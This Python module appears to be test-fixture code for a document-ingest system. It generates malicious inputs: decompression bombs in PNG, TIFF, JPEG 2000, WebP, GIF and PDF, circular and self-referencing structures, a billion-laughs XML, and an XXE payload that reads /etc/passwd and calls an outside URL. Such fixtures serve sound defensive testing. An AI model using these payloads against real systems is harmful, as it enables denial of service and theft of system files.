"""Images, documents and texts that were made to do harm: small to send, endless to open."""

from __future__ import annotations

import struct
import zlib

from support.pdfs import pdf, stream

HUGE = 200_000
"""Pixels a side: 120 GB as RGB."""

_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def png_bomb() -> bytes:
    """A header that claims an ocean of pixels, and a few rows of zeros."""
    parts = (
        (b"IHDR", struct.pack(">IIBBBBB", HUGE, HUGE, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(bytes(1 << 22))),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in parts
    )


def tiff_bomb() -> bytes:
    """One strip that claims to hold every row, packed with Deflate (TIFF 6.0, Adobe's compression 8)."""
    body = zlib.compress(bytes(1 << 22))
    fields = [
        (256, 4, HUGE), (257, 4, HUGE), (258, 3, 8), (259, 3, 8), (262, 3, 1),
        (273, 4, 8 + 2 + 12 * 9 + 4), (277, 3, 1), (278, 4, HUGE), (279, 4, len(body)),
    ]  # fmt: skip  # a table
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in fields)
    return b"II*\0" + struct.pack("<IH", 8, len(fields)) + entries + bytes(4) + body


def circular_tiff() -> bytes:
    """A directory of no image that names itself as the next one."""
    entry = struct.pack("<HHII", 256, 4, 1, 1)
    return b"II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8)


def jp2_bomb() -> bytes:
    """A JPEG 2000 codestream whose size marker claims an ocean, in tiles of a pixel (ISO 15444-1, A.5.1)."""
    side = HUGE
    siz = struct.pack(">HHHIIIIIIIIH", 0xFF51, 47, 0, side, side, 0, 0, 1, 1, 0, 0, 3) + bytes([7, 1, 1] * 3)
    codestream = b"\xff\x4f" + siz + b"\xff\xd9"
    return (
        b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0\x2djp2h\0\0\0\x16ihdr"
        + struct.pack(">IIHBBBB", side, side, 3, 7, 7, 0, 0)
        + b"\0\0\0\x0fcolr\x01\0\0\0\0\0\x10"
        + struct.pack(">I4s", len(codestream) + 8, b"jp2c")
        + codestream
    )


def webp_bomb() -> bytes:
    """The largest canvas that an extended WebP can claim, with next to nothing on it."""
    side = (1 << 14) - 1
    canvas = struct.pack("<I", 0)[:4] + struct.pack("<I", side)[:3] + struct.pack("<I", side)[:3]
    lossless = b"\x2f" + struct.pack("<I", side | side << 14) + bytes(16)
    body = b"WEBPVP8X" + struct.pack("<I", len(canvas)) + canvas
    body += b"VP8L" + struct.pack("<I", len(lossless)) + lossless + b"\0" * (len(lossless) % 2)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def gif_bomb(frames: int = 20_000) -> bytes:
    """Full-screen frames of one pixel each, thousands of them, on the largest screen (GIF89a)."""
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0) + b"\x02\x02\x44\x01\x00"
    screen = struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + bytes(6)
    return b"GIF89a" + screen + frame * frames + b"\x3b"


def pdf_of_a_million_pages() -> bytes:
    """A tree of pages that is wide and deep: 100 nodes that each name the same 100, three levels down."""
    objects = {1: _CATALOGUE, 9: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"}
    for level, number in enumerate((2, 3, 4)):
        kid = b"9 0 R " if level == 2 else b"%d 0 R " % (number + 1)
        objects[number] = b"<< /Type /Pages /Count 1000000 /Kids [" + kid * 100 + b"] >>"
    return pdf(dict(sorted(objects.items())))


def pdf_of_distinct_pages(pages: int) -> bytes:
    """Every page an object of its own."""
    objects = {1: _CATALOGUE, 2: b"<< /Type /Pages /Count %d /Kids [" % pages}
    objects[2] += b" ".join(b"%d 0 R" % number for number in range(3, pages + 3)) + b"] >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return pdf(objects | dict.fromkeys(range(3, pages + 3), page))


def pdf_encrypt_loop() -> bytes:
    """An encryption dictionary, each entry of which is the dictionary itself."""
    loop = b"<< /Filter 4 0 R /V 4 0 R /R 4 0 R /O 4 0 R /U 4 0 R /P 4 0 R /Length 4 0 R /CF 4 0 R >>"
    objects = {1: _CATALOGUE, 2: _PAGES, 3: b"<< /Type /Page /Parent 2 0 R >>", 4: loop}
    return pdf(objects, trailer="/Encrypt 4 0 R /ID [(a)(a)]")


def pdf_reference_loop() -> bytes:
    """Objects that are nothing but references to one another, where a page is looked for."""
    return pdf({1: _CATALOGUE, 2: _PAGES, 3: b"4 0 R", 4: b"5 0 R", 5: b"3 0 R"})


def pdf_filter_bomb() -> bytes:
    """A content stream packed four times over: a few kilobytes that unpack to four gigabytes."""
    packed = _zeros(4 << 30)
    for _ in range(3):
        packed = zlib.compress(packed, 9)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    filters = "/Filter [" + "/FlateDecode " * 4 + "]"
    return pdf({1: _CATALOGUE, 2: _PAGES, 3: page, 4: stream(packed, filters)})


def _zeros(count: int) -> bytes:
    """Deflate ``count`` zeros, a multiple of a MiB, packing only the first of them (RFC 1950)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    adler = (count % 65_521) << 16 | 1
    return b"\x78\xda" + one * (count >> 20) + b"\x03\0" + struct.pack(">I", adler)


def xxe(url: str) -> bytes:
    """A METS file whose entities name a file of the system and a server."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE mets [<!ENTITY passwd SYSTEM "file:///etc/passwd"><!ENTITY call SYSTEM "{url}">
<!ENTITY % outside SYSTEM "{url}/parameter"> %outside;]>
<mets xmlns="http://www.loc.gov/METS/" LABEL="x">&passwd;&call;</mets>
""".encode()


def billion_laughs(root: str) -> bytes:
    """Entities of entities, ten levels of ten."""
    entities = "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * 10 if level else "lol" * 10}">' for level in range(10)
    )
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entities}]><{root}>&l9;</{root}>'.encode()
